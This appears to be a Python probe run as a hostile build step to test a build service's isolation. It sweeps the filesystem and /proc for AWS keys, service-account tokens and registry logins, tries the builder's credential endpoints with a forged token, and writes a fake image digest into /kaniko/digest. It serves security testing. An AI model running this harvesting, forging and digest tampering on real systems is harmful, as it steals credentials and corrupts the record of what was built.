"""A build step that looks for anything worth taking in its pod, tries what it finds, and writes down what came of it."""
import base64
import hashlib
import hmac
import json
import os
import re
import urllib.error
import urllib.request

BUILDER = open("/app/builder.txt").read().strip()
# Put together here, so that this file is no find.
PATTERNS = {
    "secret": re.compile(b"SECRET" + b"-OF-[a-z-]+"),
    "service account token": re.compile(rb"eyJ[\w-]{10,}\.eyJ[\w-]{10,}\.[\w-]{20,}"),
    "one-build token": re.compile(b"WyJid" + rb"WlsZC[\w-]{20,}\.[\w-]{43}"),
    "AWS key": re.compile(rb"(?<![A-Z0-9])A[KS]IA[A-Z0-9]{16}(?![A-Z0-9])"),
}
finds = set()
logins = set()
read = 0


def look(path, content):
    for kind, pattern in PATTERNS.items():
        for match in pattern.findall(content):
            finds.add(f"{kind} in {path}: {match.decode()}")
    if b'"auths"' in content and path.endswith("config.json"):
        for registry, login in json.loads(content)["auths"].items():
            logins.add(f"{registry} {base64.b64decode(login['auth']).decode()}")


for folder, folders, files in os.walk("/"):
    if folder == "/":
        folders[:] = [name for name in folders if name not in ("proc", "sys")]
    for name in files:
        path = os.path.join(folder, name)
        try:
            if os.path.isfile(path) and os.path.getsize(path) < 8 << 20:
                with open(path, "rb") as file:
                    look(path, file.read())
                read += 1
        except OSError:
            pass
for process in filter(str.isdigit, os.listdir("/proc")):
    for name in ("environ", "cmdline"):
        try:
            with open(f"/proc/{process}/{name}", "rb") as file:
                look(f"/proc/{name}", file.read())
        except OSError:
            pass


def ask(path, token=None):
    request = urllib.request.Request(BUILDER + path, headers={"Authorization": f"Bearer {token}"} if token else {})
    try:
        with urllib.request.urlopen(request, timeout=60) as response:
            return response.status
    except urllib.error.HTTPError as error:
        return error.code


claims = base64.urlsafe_b64encode(json.dumps(["build-x", "team-b", "0" * 64]).encode()).decode().rstrip("=")
forged = base64.urlsafe_b64encode(hmac.new(b"guess", claims.encode(), hashlib.sha256).digest()).decode().rstrip("=")
answers = {
    "context without a token": ask("/context"),
    "credentials without a token": ask("/credentials"),
    "credentials for a forged token": ask("/credentials", f"{claims}.{forged}"),
}

# What a build says of its image is to be believed by nobody.
for path in ("/dev/termination-log", "/kaniko/digest"):
    try:
        with open(path, "w") as file:
            file.write("sha256:" + "0" * 64)
    except OSError:
        pass

with open("/app/report.json", "w") as file:
    json.dump(
        {
            "read": read,
            "finds": sorted(finds),
            "logins": sorted(logins),
            "environment": sorted(os.environ),
            "identity": [path for path in ("/var/run/secrets", "/run/secrets") if os.path.exists(path) and os.listdir(path)],
            "answers": answers,
        },
        file,
    )

# Others try this build's token while it runs: it ends once they have, which this answers.
urllib.request.urlopen(open("/app/gate.txt").read().strip(), timeout=600).read()
